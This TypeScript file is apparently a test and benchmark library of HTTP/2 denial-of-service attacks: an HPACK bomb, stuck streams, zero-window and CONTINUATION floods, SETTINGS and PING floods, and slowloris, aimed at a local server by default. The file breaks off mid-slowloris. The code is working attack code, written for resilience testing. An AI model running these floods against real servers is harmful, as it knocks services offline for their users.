// A library of HTTP/2 attacks for tests and benchmarks (bench/hostile.sh),
// built on the raw client of test/h2raw.ts. Each attack is an async function
// bounded in time (durationMs, plus a short settle phase and connect timeouts)
// and in connections (maxConnections); it never throws for what the server
// does (GOAWAY, RST_STREAM, closes, refused connections are results) and
// returns a plain, JSON-serialisable AttackResult. startProbe() is the
// well-behaved client that runs next to an attack. Every connection goes to
// `host` (default 127.0.0.1). Self-test: test/attacks.test.ts.
import * as http2 from 'node:http2';
import {
  ErrorCode,
  Flag,
  FrameType,
  HeaderList,
  RawH2Client,
  Setting,
  encodeFrame,
  errorCodeName,
  hpackEncodeIndexedLiteral,
  hpackEncodeLiteral,
  hpackIndexedField,
  hpackInt,
} from './h2raw';

// ---------------------------------------------------------------------------
// Options and results

export interface AttackOptions {
  port: number;
  /** Default '127.0.0.1'. */
  host?: string;
  /** How long the attack runs (the settle phase and teardown come on top, <= settleMs + ~100 ms). */
  durationMs: number;
  /**
   * Cap on connections opened over the whole attack, reconnects included.
   * Default: the attack's `connections` (x 100 for hpackBomb, which replaces
   * closed ones), 10,000 for the reconnecting ones (reconnect: true).
   */
  maxConnections?: number;
  /** TLS connect timeout per connection (also bounded by what is left of durationMs + 1 s). Default 5000. */
  connectTimeoutMs?: number;
  /** After durationMs: how long to keep reading (paused sockets resumed) to collect GOAWAYs / closes. Default 500. */
  settleMs?: number;
}

export interface GoawaySeen {
  code: number;
  name: string;
  lastStreamId: number;
  debugData: string;
  /** ms since the attack started. */
  atMs: number;
}

export interface ConnectionRecord {
  index: number;
  /** ms since the attack started. */
  openedAtMs: number;
  /** The server ended or closed the socket (FIN, RST, TLS close) before we closed it. */
  serverClosed: boolean;
  /** When the socket ended / closed (ms since the attack started), if it did before teardown. */
  closedAtMs?: number;
  /** The first GOAWAY the server sent on it. */
  goaway?: GoawaySeen;
  /** The socket's error code ('ECONNRESET', 'EPIPE', ...), if any. */
  socketError?: string;
  streamsOpened: number;
  framesSent: number;
  bytesSent: number;
}

export interface AttackResult {
  attack: string;
  /** The effective options (defaults filled in). */
  options: Record<string, unknown>;
  startedAt: string;
  /** Wall time from start to the end of the settle phase, ms. */
  elapsedMs: number;
  /** Connections opened (TLS handshake done, ALPN h2). */
  connections: number;
  /** Connection attempts that failed (refused, reset, handshake timeout, ...). */
  connectFailures: number;
  /** Connections the server ended/closed before we did. */
  serverClosedConnections: number;
  /** Connections that received at least one GOAWAY. */
  goawayConnections: number;
  /**
   * How the server closed connections: "GOAWAY <NAME>" or "no GOAWAY", " / ",
   * how the socket ended ("FIN", or its error: "ECONNRESET", "EPIPE", ...) -> count.
   * A server that closes with unread bytes in its receive buffer sends a TCP RST,
   * which can discard a GOAWAY before we read it.
   */
  serverCloseKinds: Record<string, number>;
  /** Streams this attack opened (HEADERS with a new stream id). */
  streamsOpened: number;
  /** Frames and bytes handed to the sockets (plaintext HTTP/2; what the kernel never took counts too). */
  framesSent: number;
  bytesSent: number;
  /** Plaintext bytes read. */
  bytesReceived: number;
  /** Every GOAWAY received, grouped: "NAME(code) debug" -> count. */
  goawayCodes: Record<string, number>;
  /** The first GOAWAYs received (at most 20). */
  goaways: GoawaySeen[];
  /** RST_STREAM frames received: error code name -> count. */
  rstReceived: Record<string, number>;
  /** Final response :status values received: status -> count. */
  statuses: Record<string, number>;
  /** Frames received per type name ('HEADERS', 'RST_STREAM', ...). */
  framesReceived: Record<string, number>;
  /** One record per connection (the first 200). */
  connectionRecords: ConnectionRecord[];
  /** Distinct error messages (the first 20) and how many errors there were in all. */
  errors: string[];
  errorCount: number;
  /** What is specific to the attack. */
  extra: Record<string, unknown>;
}

const now = () => performance.now();
const sleep = (ms: number) => new Promise<void>((r) => setTimeout(r, Math.max(0, ms)));
const tick = () => new Promise<void>((r) => setImmediate(r));

const MAX_RECORDS = 200;
const MAX_ERRORS = 20;
const MAX_STREAM_ID = 0x7fffffff;

interface Conn {
  client: RawH2Client;
  rec: ConnectionRecord;
  streamsOpened: number;
  /** We closed it before the settle phase (Run.drop): not the server's doing. */
  dropped: boolean;
}

/** Shared bookkeeping of one attack run. */
class Run {
  readonly t0 = now();
  readonly startedAt = new Date().toISOString();
  readonly deadline: number;
  readonly host: string;
  readonly port: number;
  readonly maxConnections: number;
  readonly connectTimeoutMs: number;
  readonly settleMs: number;
  readonly conns: Conn[] = [];
  connectFailures = 0;
  attempts = 0;
  private errorSet = new Set<string>();
  errorCount = 0;

  constructor(
    readonly name: string,
    o: AttackOptions,
    defaultMaxConnections: number,
    readonly options: Record<string, unknown>,
  ) {
    if (!Number.isInteger(o.port) || o.port <= 0 || o.port > 65535) throw new RangeError(`${name}: bad port ${o.port}`);
    if (!(o.durationMs >= 0)) throw new RangeError(`${name}: bad durationMs ${o.durationMs}`);
    this.host = o.host ?? '127.0.0.1';
    this.port = o.port;
    this.deadline = this.t0 + o.durationMs;
    this.maxConnections = o.maxConnections ?? defaultMaxConnections;
    this.connectTimeoutMs = o.connectTimeoutMs ?? 5000;
    this.settleMs = o.settleMs ?? 500;
    Object.assign(this.options, {
      host: this.host,
      port: this.port,
      durationMs: o.durationMs,
      maxConnections: this.maxConnections,
      connectTimeoutMs: this.connectTimeoutMs,
      settleMs: this.settleMs,
    });
  }

  get remaining(): number {
    return this.deadline - now();
  }
  /** Time is up. 2 ms of slack: a timer set for the deadline may fire up to ~1 ms early by performance.now(). */
  get over(): boolean {
    return now() >= this.deadline - 2;
  }
  ms(t: number): number {
    return Math.round(t - this.t0);
  }

  error(msg: string): void {
    this.errorCount++;
    if (this.errorSet.size < MAX_ERRORS) this.errorSet.add(msg);
  }

  /** Opens one connection unless the cap is reached or time is up; undefined on failure (counted). */
  async open(opts: Omit<Parameters<typeof RawH2Client.connect>[0], 'port' | 'host' | 'timeoutMs'> = {}): Promise<Conn | undefined> {
    if (this.over || this.attempts >= this.maxConnections) return undefined;
    this.attempts++;
    const openedAt = now();
    try {
      const client = await RawH2Client.connect({
        port: this.port,
        host: this.host,
        timeoutMs: Math.max(100, Math.min(this.connectTimeoutMs, this.remaining + 1000)),
        keepBody: false,
        ...opts,
      });
      // Writes to a socket the server reset must not become unhandled errors.
      client.socket.on('error', () => {});
      const c: Conn = {
        client,
        streamsOpened: 0,
        dropped: false,
        rec: {
          index: this.conns.length,
          openedAtMs: this.ms(openedAt),
          serverClosed: false,
          streamsOpened: 0,
          framesSent: 0,
          bytesSent: 0,
        },
      };
      this.conns.push(c);
      return c;
    } catch (err) {
      this.connectFailures++;
      this.error(`connect: ${(err as Error).message}`);
      return undefined;
    }
  }

  /** Waits (at most ms) until the server's first SETTINGS arrived on c. */
  async settings(c: Conn, ms = 1000): Promise<void> {
    await c.client
      .waitUntil('server SETTINGS', () => c.client.settingsReceived, Math.max(1, Math.min(ms, this.remaining)), false)
      .catch(() => {});
  }

  /** Waits until cond(), the socket closes, or the deadline; never rejects. */
  async until(c: Conn, cond: () => boolean, ms = this.remaining): Promise<void> {
    if (ms <= 0) return;
    await c.client.waitUntil('condition', () => cond() || c.client.socketClosed, Math.max(1, ms), false).catch(() => {});
  }

  /** Writes bytes and waits for 'drain' if the socket asks for it (bounded by the deadline). false: socket gone. */
  async write(c: Conn, bytes: Buffer, frames: number, type: number): Promise<boolean> {
    if (!c.client.writable) return false;
    const ok = c.client.writeRaw(bytes, frames, type);
    if (!ok && c.client.writable && !this.over) await c.client.waitDrain(this.remaining);
    return c.client.writable;
  }

  /** Closes a connection the attack gives up on (recorded as not closed by the server). */
  drop(c: Conn): void {
    if (!c.client.socketClosed && !c.client.socketEnded) c.dropped = true;
    c.client.destroy();
  }

  /** The client's state says the server is done with it (closed, or a GOAWAY). */
  dead(c: Conn): boolean {
    return c.client.socketClosed || c.client.socketEnded || c.client.goaways.length > 0 || !c.client.writable;
  }

  /** The settle phase: resume reading everywhere, wait up to settleMs for the open sockets to close, then tear down. */
  async finish(extra: Record<string, unknown>): Promise<AttackResult> {
    for (const c of this.conns) if (c.client.paused) c.client.resume();
    const settleEnd = now() + this.settleMs;
    while (now() < settleEnd && this.conns.some((c) => !c.client.socketClosed && !c.client.socketEnded)) await sleep(20);
    // Record what the server did before we close anything.
    for (const c of this.conns) {
      const cl = c.client;
      const r = c.rec;
      r.serverClosed = !c.dropped && (cl.socketEnded || cl.socketClosed);
      const closedAt = cl.endedAt ?? cl.closedAt;
      if (r.serverClosed && closedAt !== undefined) r.closedAtMs = this.ms(closedAt);
      if (cl.goaways.length) r.goaway = this.goaway(cl, 0);
      if (cl.socketErrorCode ?? cl.socketError) r.socketError = cl.socketErrorCode ?? cl.socketError?.message;
      r.streamsOpened = c.streamsOpened;
      r.framesSent = cl.framesSent;
      r.bytesSent = cl.bytesSent;
    }
    const elapsedMs = this.ms(now());
    for (const c of this.conns) c.client.destroy();
    const result: AttackResult = {
      attack: this.name,
      options: this.options,
      startedAt: this.startedAt,
      elapsedMs,
      connections: this.conns.length,
      connectFailures: this.connectFailures,
      serverClosedConnections: this.conns.filter((c) => c.rec.serverClosed).length,
      goawayConnections: this.conns.filter((c) => c.client.goaways.length > 0).length,
      serverCloseKinds: {},
      streamsOpened: 0,
      framesSent: 0,
      bytesSent: 0,
      bytesReceived: 0,
      goawayCodes: {},
      goaways: [],
      rstReceived: {},
      statuses: {},
      framesReceived: {},
      connectionRecords: this.conns.slice(0, MAX_RECORDS).map((c) => c.rec),
      errors: [...this.errorSet],
      errorCount: this.errorCount,
      extra,
    };
    for (const c of this.conns) {
      const cl = c.client;
      if (c.rec.serverClosed) {
        const k = `${c.rec.goaway ? `GOAWAY ${c.rec.goaway.name}` : 'no GOAWAY'} / ${c.rec.socketError ?? 'FIN'}`;
        result.serverCloseKinds[k] = (result.serverCloseKinds[k] ?? 0) + 1;
      }
      result.streamsOpened += c.streamsOpened;
      result.framesSent += cl.framesSent;
      result.bytesSent += cl.bytesSent;
      result.bytesReceived += cl.bytesReceived;
      cl.goaways.forEach((_, i) => {
        const g = this.goaway(cl, i);
        const key = `${g.name}(${g.code})${g.debugData ? ' ' + g.debugData : ''}`;
        result.goawayCodes[key] = (result.goawayCodes[key] ?? 0) + 1;
        if (result.goaways.length < 20) result.goaways.push(g);
      });
      for (const [code, n] of cl.rstCounts) result.rstReceived[errorCodeName(code)] = (result.rstReceived[errorCodeName(code)] ?? 0) + n;
      for (const [s, n] of cl.statusCounts) result.statuses[s] = (result.statuses[s] ?? 0) + n;
      for (const [t, n] of cl.frameCounts) {
        const name = frameTypeName(t);
        result.framesReceived[name] = (result.framesReceived[name] ?? 0) + n;
      }
    }
    return result;
  }

  private goaway(cl: RawH2Client, i: number): GoawaySeen {
    const g = cl.goaways[i];
    return {
      code: g.errorCode,
      name: errorCodeName(g.errorCode),
      lastStreamId: g.lastStreamId,
      debugData: g.debugData.slice(0, 200),
      atMs: this.ms(cl.goawayTimes[i] ?? now()),
    };
  }
}

function frameTypeName(t: number): string {
  for (const [k, v] of Object.entries(FrameType)) if (v === t) return k;
  return `TYPE_0x${t.toString(16)}`;
}

/** Streams opened on c that the server has not finished (END_STREAM or RST_STREAM). */
function inFlight(c: Conn): number {
  let rst = 0;
  for (const n of c.client.rstCounts.values()) rst += n;
  return Math.max(0, c.streamsOpened - c.client.streamsEnded - rst);
}

/** A request's pseudo-headers as literals without indexing. */
function pseudo(method: string, path: string, extra: HeaderList = []): Buffer {
  return hpackEncodeLiteral([[':method', method], [':scheme', 'https'], [':path', path], [':authority', 'localhost'], ...extra]);
}

function headersFrame(streamId: number, block: Buffer, flags: number): Buffer {
  return encodeFrame(FrameType.HEADERS, flags, streamId, block);
}

/** Percentiles (nearest rank) of a list of numbers. */
function quantiles(xs: number[]): { p50: number; p99: number; max: number; n: number } {
  if (xs.length === 0) return { p50: NaN, p99: NaN, max: NaN, n: 0 };
  const s = [...xs].sort((a, b) => a - b);
  const q = (p: number) => s[Math.min(s.length - 1, Math.max(0, Math.ceil(p * s.length) - 1))];
  const r = (v: number) => Math.round(v * 100) / 100;
  return { p50: r(q(0.5)), p99: r(q(0.99)), max: r(s[s.length - 1]), n: s.length };
}

/** Runs fn(i) for i in 0..n-1 concurrently. */
async function parallel(n: number, fn: (i: number) => Promise<void>): Promise<void> {
  await Promise.all(Array.from({ length: n }, (_, i) => fn(i)));
}

// ---------------------------------------------------------------------------
// 1. HPACK bomb

export interface HpackBombOptions extends AttackOptions {
  /** Connections attacking at once. Default 2. */
  connections?: number;
  /** Streams in flight per connection (capped by the server's MAX_CONCURRENT_STREAMS). Default 100. */
  streamsPerConnection?: number;
  /** Default '/'. */
  path?: string;
  /** Length of the x-bomb value (entry size 6 + valueBytes + 32 must fit 4096). Default 4000. */
  valueBytes?: number;
  /** Size of each bomb HEADERS frame payload. Default 16384. */
  frameBytes?: number;
}

/**
 * Per connection: one request enters `x-bomb: a...` (valueBytes) into the
 * server's HPACK dynamic table (literal with incremental indexing); then
 * streams of one HEADERS frame of frameBytes each: the 4 pseudo-headers
 * (literals, no indexing) and as many 1-byte references to index 62 (that
 * entry) as fit, END_HEADERS | END_STREAM. A frame of 16 KiB decodes to
 * ~65 MB of header fields. Up to streamsPerConnection streams in flight per
 * connection, new ones as the server finishes old ones, until durationMs; a
 * connection the server closes (or sends GOAWAY on) is replaced.
 */
export async function hpackBomb(o: HpackBombOptions): Promise<AttackResult> {
  const connections = o.connections ?? 2;
  const spc = o.streamsPerConnection ?? 100;
  const path = o.path ?? '/';
  const valueBytes = o.valueBytes ?? 4000;
  const frameBytes = o.frameBytes ?? 16384;
  if (6 + valueBytes + 32 > 4096) throw new RangeError('hpackBomb: valueBytes too large for a 4096-byte dynamic table');
  const run = new Run('hpackBomb', o, connections * 100, { connections, streamsPerConnection: spc, path, valueBytes, frameBytes });
  const head = pseudo('GET', path);
  const entryBlock = Buffer.concat([head, hpackEncodeIndexedLiteral([['x-bomb', 'a'.repeat(valueBytes)]])]);
  const refs = frameBytes - head.length;
  if (refs <= 0) throw new RangeError('hpackBomb: frameBytes too small');
  const bombBlock = Buffer.concat([head, Buffer.alloc(refs, hpackIndexedField(62)[0])]);
  let bombStreams = 0;
  let capSeen = Infinity;

  const attackOne = async (c: Conn) => {
    await run.settings(c);
    const cap = Math.max(1, Math.min(spc, c.client.serverMaxConcurrentStreams));
    capSeen = Math.min(capSeen, cap);
    // Enter the entry: one ordinary request.
    let id = c.client.allocStreamId();
    if (!(await run.write(c, headersFrame(id, entryBlock, Flag.END_HEADERS | Flag.END_STREAM), 1, FrameType.HEADERS))) return;
    c.streamsOpened++;
    while (!run.over && !run.dead(c)) {
      while (inFlight(c) < cap && !run.over && !run.dead(c)) {
        id = c.client.allocStreamId();
        if (id > MAX_STREAM_ID) return;
        c.streamsOpened++;
        bombStreams++;
        if (!(await run.write(c, headersFrame(id, bombBlock, Flag.END_HEADERS | Flag.END_STREAM), 1, FrameType.HEADERS))) return;
      }
      await run.until(c, () => inFlight(c) < cap || c.client.goaways.length > 0);
    }
  };

  await parallel(connections, async () => {
    while (!run.over) {
      const c = await run.open({ forgetClosedStreams: true });
      if (!c) {
        if (run.attempts >= run.maxConnections) return;
        await sleep(Math.min(50, run.remaining));
        continue;
      }
      await attackOne(c);
    }
  });
  return run.finish({
    bombStreams,
    bombFrameBytes: bombBlock.length,
    refsPerStream: refs,
    decodedBytesPerStream: refs * (6 + valueBytes) + 45 + path.length,
    entrySize: 6 + valueBytes + 32,
    streamsInFlightCap: Number.isFinite(capSeen) ? capSeen : null,
  });
}

// ---------------------------------------------------------------------------
// 2. Stuck streams

export interface StuckStreamsOptions extends AttackOptions {
  /** Default 2. */
  connections?: number;
  /** Default 100 (capped by the server's MAX_CONCURRENT_STREAMS unless respectMaxConcurrentStreams is false). */
  streamsPerConnection?: number;
  /** Default '/'. */
  path?: string;
  /** Default 'POST'. */
  method?: string;
  /** Send a content-length header with this value. */
  contentLength?: number;
  /** DATA bytes sent on each stream, without END_STREAM (within the server's flow-control windows). Default 0. */
  dataBytes?: number;
  /** Default true. */
  respectMaxConcurrentStreams?: boolean;
}

/**
 * connections x streamsPerConnection requests opened with HEADERS without
 * END_STREAM (and dataBytes of DATA each, never END_STREAM), then silence
 * until durationMs. Reports what the server did to those streams meanwhile.
 */
export async function stuckStreams(o: StuckStreamsOptions): Promise<AttackResult> {
  const connections = o.connections ?? 2;
  const spc = o.streamsPerConnection ?? 100;
  const path = o.path ?? '/';
  const method = o.method ?? 'POST';
  const dataBytes = o.dataBytes ?? 0;
  const respect = o.respectMaxConcurrentStreams ?? true;
  const run = new Run('stuckStreams', o, connections, {
    connections, streamsPerConnection: spc, path, method, contentLength: o.contentLength ?? null, dataBytes, respectMaxConcurrentStreams: respect,
  });
  const headers: HeaderList = o.contentLength !== undefined ? [['content-length', String(o.contentLength)]] : [];
  const payload = Buffer.alloc(dataBytes, 0x78);
  const ids: { c: Conn; id: number }[] = [];
  await parallel(connections, async () => {
    const c = await run.open();
    if (!c) return;
    await run.settings(c);
    const n = respect ? Math.min(spc, c.client.serverMaxConcurrentStreams) : spc;
    for (let i = 0; i < n && c.client.writable && !run.over; i++) {
      const id = c.client.request(path, { method, headers, endStream: false });
      c.streamsOpened++;
      ids.push({ c, id });
      if (dataBytes > 0) c.client.data(id, payload, false);
      if (c.client.needsDrain) await c.client.waitDrain(run.remaining);
    }
  });
  await sleep(run.remaining);
  let responded = 0;
  let reset = 0;
  let open = 0;
  let pendingBytes = 0;
  let firstEndMs: number | null = null;
  for (const { c, id } of ids) {
    const st = c.client.streamRecord(id);
    pendingBytes += c.client.pendingBytes(id);
    const t = st?.rstAt ?? st?.headersAt;
    if (t !== undefined) firstEndMs = Math.min(firstEndMs ?? Infinity, run.ms(t));
    if (st?.rstCode !== undefined) reset++;
    else if (st?.headersAt !== undefined) responded++;
    else open++;
  }
  return run.finish({ streams: ids.length, responded, reset, openAtEnd: open, dataBytesUnsent: pendingBytes, firstServerActionMs: firstEndMs });
}

// ---------------------------------------------------------------------------
// 3. Zero-window HEADERS flood

export interface ZeroWindowHeadersFloodOptions extends AttackOptions {
  /** Path of the first GET streams and of the flood. Default '/'. */
  path?: string;
  /** GET streams opened before the flood. Default 100. */
  initialStreams?: number;
  /** Connections flooding at once. Default 1. */
  connections?: number;
  /** HEADERS frames per write. Default 1024. */
  batchFrames?: number;
  /** END_STREAM on the flood's HEADERS (complete GETs). Default true. */
  endStream?: boolean;
}

/**
 * SETTINGS_INITIAL_WINDOW_SIZE 0, no connection WINDOW_UPDATE, the server's
 * SETTINGS never ACKed; initialStreams GETs, then the socket is no longer
 * read, and tiny HEADERS frames (9-byte header + a 4-byte block: :method GET,
 * :scheme https, :path, :authority from the dynamic table), each on a new
 * stream id, are written as fast as the socket takes them (waiting for
 * 'drain') until durationMs.
 */
export async function zeroWindowHeadersFlood(o: ZeroWindowHeadersFloodOptions): Promise<AttackResult> {
  const path = o.path ?? '/';
  const initial = o.initialStreams ?? 100;
  const connections = o.connections ?? 1;
  const batch = o.batchFrames ?? 1024;
  const endStream = o.endStream ?? true;
  const run = new Run('zeroWindowHeadersFlood', o, connections, { path, initialStreams: initial, connections, batchFrames: batch, endStream });
  const pathField = path === '/' ? hpackIndexedField(4) : Buffer.concat([hpackInt(4, 4, 0x00), hpackInt(path.length, 7), Buffer.from(path, 'latin1')]);
  const fixed = Buffer.concat([hpackIndexedField(2), hpackIndexedField(7), pathField]);
  const firstBlock = Buffer.concat([fixed, hpackInt(1, 6, 0x40), hpackInt(9, 7), Buffer.from('localhost')]); // :authority, indexed (62)
  const block = Buffer.concat([fixed, hpackIndexedField(62)]);
  const flags = Flag.END_HEADERS | (endStream ? Flag.END_STREAM : 0);
  let floodFrames = 0;
  let drainWaits = 0;
  let blockedMs = 0;
  let lastStreamId = 0;
  await parallel(connections, async () => {
    const c = await run.open({
      initialWindowSize: 0,
      connectionWindowIncrement: 0,
      ackSettings: false,
      autoWindowUpdate: false,
      forgetClosedStreams: true,
    });
    if (!c) return;
    for (let i = 0; i < initial && c.client.writable; i++) {
      c.client.request(path);
      c.streamsOpened++;
    }
    await sleep(Math.min(100, run.remaining));
    c.client.pause();
    let first = true;
    while (!run.over && c.client.writable) {
      const frames: Buffer[] = [];
      for (let i = 0; i < batch; i++) {
        const id = c.client.allocStreamId();
        if (id > MAX_STREAM_ID) break;
        frames.push(headersFrame(id, first ? firstBlock : block, flags));
        first = false;
        lastStreamId = id;
      }
      if (frames.length === 0) break;
      const ok = c.client.writeRaw(Buffer.concat(frames), frames.length, FrameType.HEADERS);
      c.streamsOpened += frames.length;
      floodFrames += frames.length;
      if (!ok && c.client.writable) {
        drainWaits++;
        const t = now();
        await c.client.waitDrain(run.remaining);
        blockedMs += now() - t;
      } else await tick();
    }
  });
  return run.finish({ floodFrames, frameBytes: 9 + block.length, drainWaits, blockedMs: Math.round(blockedMs), lastStreamId });
}

// ---------------------------------------------------------------------------
// 4. CONTINUATION flood

export interface ContinuationFloodOptions extends AttackOptions {
  /** Default '/'. */
  path?: string;
  /** Payload bytes of each CONTINUATION frame (one complete literal header field, 7 to 132). Default 16. */
  fragmentBytes?: number;
  /** CONTINUATION frames per write. Default 512. */
  batchFrames?: number;
  /** Open a new connection when the server closes one (until durationMs / maxConnections). Default false. */
  reconnect?: boolean;
}

/**
 * HEADERS (a GET's pseudo-headers, END_STREAM, no END_HEADERS), then
 * CONTINUATION frames of fragmentBytes each (a literal `x-c: aaa...` without
 * indexing: valid HPACK, the block only grows), never END_HEADERS, as fast as
 * the socket takes them, until the server closes the connection (or sends
 * GOAWAY) or durationMs.
 */
export async function continuationFlood(o: ContinuationFloodOptions): Promise<AttackResult> {
  const path = o.path ?? '/';
  const fragmentBytes = Math.max(7, o.fragmentBytes ?? 16);
  const batch = o.batchFrames ?? 512;
  const reconnect = o.reconnect ?? false;
  const run = new Run('continuationFlood', o, reconnect ? 10000 : 1, { path, fragmentBytes, batchFrames: batch, reconnect });
  const valueLen = fragmentBytes - 6; // 0x00, len(1), 'x-c', len(1), value; lengths < 127
  if (valueLen > 126) throw new RangeError('continuationFlood: fragmentBytes must be <= 132');
  const frag = Buffer.concat([Buffer.from([0x00, 3]), Buffer.from('x-c'), Buffer.from([valueLen]), Buffer.alloc(valueLen, 0x61)]);
  let continuationFrames = 0;
  const perConnection: number[] = [];
  while (!run.over) {
    const c = await run.open({ ackPings: false });
    if (!c) {
      if (!reconnect || run.attempts >= run.maxConnections) break;
      await sleep(Math.min(50, run.remaining));
      continue;
    }
    // Our SETTINGS ACK must not land inside the header block: wait for the server's SETTINGS first.
    await run.settings(c, 1000);
    if (!c.client.settingsReceived) {
      if (!run.over) run.error('no SETTINGS from the server within 1 s: connection not used');
      run.drop(c);
      if (!reconnect) break;
      continue;
    }
    const id = c.client.allocStreamId();
    c.client.sendHeaderBlock(id, pseudo('GET', path), { endStream: true, endHeaders: false });
    c.streamsOpened++;
    let sent = 0;
    const chunk = Buffer.concat(Array.from({ length: batch }, () => encodeFrame(FrameType.CONTINUATION, 0, id, frag)));
    while (!run.over && !run.dead(c)) {
      if (!(await run.write(c, chunk, batch, FrameType.CONTINUATION))) break;
      sent += batch;
      await tick();
    }
    continuationFrames += sent;
    perConnection.push(sent);
    if (!reconnect) break;
    // Let the close be seen before reconnecting (a GOAWAY first: the socket closes soon after).
    await run.until(c, () => c.client.socketClosed || c.client.socketEnded, Math.min(200, run.remaining));
  }
  return run.finish({
    continuationFrames,
    headerBlockBytesPerConnection: perConnection.slice(0, 50).map((n) => n * fragmentBytes),
    framesPerConnection: perConnection.slice(0, 50),
  });
}

// ---------------------------------------------------------------------------
// 5. SETTINGS and PING floods

export interface ControlFloodOptions extends AttackOptions {
  /** Keep reading the socket (the server's ACKs are consumed). Default false: paused, so the ACKs back up. */
  read?: boolean;
  /** Frames per write. Default 256. */
  batchFrames?: number;
  /** Open a new connection when the server closes one. Default false. */
  reconnect?: boolean;
}

async function controlFlood(name: string, o: ControlFloodOptions, frameOf: (i: number) => Buffer, type: number): Promise<AttackResult> {
  const read = o.read ?? false;
  const batch = o.batchFrames ?? 256;
  const reconnect = o.reconnect ?? false;
  const run = new Run(name, o, reconnect ? 10000 : 1, { read, batchFrames: batch, reconnect });
  let floodFrames = 0;
  let seq = 0;
  let acks = 0;
  while (!run.over) {
    const c = await run.open();
    if (!c) {
      if (!reconnect || run.attempts >= run.maxConnections) break;
      await sleep(Math.min(50, run.remaining));
      continue;
    }
    await run.settings(c, 200);
    if (!read) c.client.pause();
    while (!run.over && !run.dead(c)) {
      const chunk = Buffer.concat(Array.from({ length: batch }, () => frameOf(seq++)));
      if (!(await run.write(c, chunk, batch, type))) break;
      floodFrames += batch;
      await tick();
    }
    if (!reconnect) break;
    await run.until(c, () => c.client.socketClosed, Math.min(200, run.remaining));
  }
  const result = await run.finish({ floodFrames });
  for (const c of run.conns) acks += type === FrameType.PING ? c.client.pingAcksReceived : c.client.settingsAcksReceived;
  result.extra.acksReceived = acks;
  return result;
}

/** Non-ACK SETTINGS frames (4 entries each: the values a client would send anyway) as fast as the socket takes them. */
export function settingsFlood(o: ControlFloodOptions): Promise<AttackResult> {
  const p = Buffer.alloc(24);
  [[Setting.HEADER_TABLE_SIZE, 4096], [Setting.ENABLE_PUSH, 0], [Setting.MAX_CONCURRENT_STREAMS, 100], [Setting.MAX_FRAME_SIZE, 16384]].forEach(([id, v], i) => {
    p.writeUInt16BE(id, i * 6);
    p.writeUInt32BE(v, i * 6 + 2);
  });
  const f = encodeFrame(FrameType.SETTINGS, 0, 0, p);
  return controlFlood('settingsFlood', o, () => f, FrameType.SETTINGS);
}

/** PING frames (non-ACK, distinct payloads) as fast as the socket takes them. */
export function pingFlood(o: ControlFloodOptions): Promise<AttackResult> {
  return controlFlood(
    'pingFlood',
    o,
    (i) => {
      const p = Buffer.alloc(8);
      p.writeUInt32BE(0x666c6f6f, 0); // 'floo'
      p.writeUInt32BE(i >>> 0, 4);
      return encodeFrame(FrameType.PING, 0, 0, p);
    },
    FrameType.PING,
  );
}

// ---------------------------------------------------------------------------
// 6. Zero-window reader

export interface ZeroWindowReaderOptions extends AttackOptions {
  /** A path answering a large body. Default '/big'. */
  path?: string;
  /** Streams per connection (capped by the server's MAX_CONCURRENT_STREAMS). Default 100. */
  streams?: number;
  /** Default 1. */
  connections?: number;
}

/**
 * SETTINGS_INITIAL_WINDOW_SIZE 0 and no connection WINDOW_UPDATE (the
 * server may send headers but no DATA), `streams` GETs of a large-body path,
 * the windows never opened (the socket is still read), held until
 * durationMs. Reports what the server did to those streams.
 */
export async function zeroWindowReader(o: ZeroWindowReaderOptions): Promise<AttackResult> {
  const path = o.path ?? '/big';
  const streams = o.streams ?? 100;
  const connections = o.connections ?? 1;
  const run = new Run('zeroWindowReader', o, connections, { path, streams, connections });
  const ids: { c: Conn; id: number }[] = [];
  await parallel(connections, async () => {
    const c = await run.open({ initialWindowSize: 0, connectionWindowIncrement: 0, autoWindowUpdate: false });
    if (!c) return;
    await run.settings(c);
    const n = Math.min(streams, c.client.serverMaxConcurrentStreams);
    for (let i = 0; i < n && c.client.writable; i++) {
      ids.push({ c, id: c.client.request(path) });
      c.streamsOpened++;
    }
  });
  await sleep(run.remaining);
  let withHeaders = 0;
  let reset = 0;
  let ended = 0;
  let dataBytes = 0;
  const rstTimes: number[] = [];
  for (const { c, id } of ids) {
    const st = c.client.streamRecord(id);
    if (!st) continue;
    if (st.headersAt !== undefined) withHeaders++;
    if (st.ended) ended++;
    if (st.rstCode !== undefined) {
      reset++;
      if (st.rstAt !== undefined) rstTimes.push(run.ms(st.rstAt));
    }
    dataBytes += st.dataBytes;
  }
  return run.finish({
    streams: ids.length,
    streamsWithHeaders: withHeaders,
    streamsEnded: ended,
    streamsReset: reset,
    openAtEnd: ids.length - reset - ended,
    dataBytesReceived: dataBytes,
    rstAtMs: rstTimes.length ? quantiles(rstTimes) : null,
  });
}

// ---------------------------------------------------------------------------
// 7. Slowloris

export interface SlowlorisOptions extends AttackOptions {
  /** 'body': HEADERS without END_STREAM then 1 byte of DATA per interval on each stream; 'headers': HEADERS without END_HEADERS then a 1-byte CONTINUATION per interval. Default 'body'. */
  variant?: 'body' | 'headers';
  /** Default 10. */
  connections?: number;
  /** Streams per connection ('body' only; 'headers' has one header block per connection). Default 10. */
  streamsPerConnection?: number;
  /** Default 1000. */
  intervalMs?: number;
  /** Default '/'. */
  path?: string;
}

export interface SlowlorisStream {
  connection: number;
  id: number;
  /** 'open' (still going at durationMs), 'response <status>', 'rst <CODE>', 'goaway <CODE>', 'closed'. */
  how: string;
  /** ms since the attack started when the server ended it (absent while open). */
  atMs?: number;
  /** Bytes trickled on it. */
  bytesSent: number;
}

/**
 * Slowloris over HTTP/2: `connections` connections, each with
 * streamsPerConnection requests whose body (variant 'body') or header block
 * (variant 'headers': CONTINUATION frames of one byte, each an indexed field
 * `accept-encoding: gzip, deflate`) arrives one byte every intervalMs, until
 * durationMs. Reports when and how the server ended each stream and connection.
 */
export async function slowloris(o: SlowlorisOptions): Promise<AttackResult> {
  const variant = o.variant ?? 'body';
  const connections = o.connections ?? 10;
  const spc = variant === 'headers' ? 1 : (o.streamsPerConnection ?? 10);
  const intervalMs = o.intervalMs ?? 1000;
  const path = o.path ?? '/';
  const run = new Run(`slowloris`, o, connections, { variant, connections, streamsPerConnection: spc, intervalMs, path });
  const streams: (SlowlorisStream & { c: Conn })[] = [];
  const one = Buffer.from([0x78]);
  const frag = hpackIndexedField(16); // accept-encoding: gzip, deflate
  await parallel(connections, async (ci) => {
    // 'headers': nothing of ours may land inside the header block (a PING ACK would).
    const c = await run.open(variant === 'headers' ? { ackPings: false } : {});
    if (!c) return;
    await run.settings(c);
    if (variant === 'headers' && !c.client.settingsReceived) {
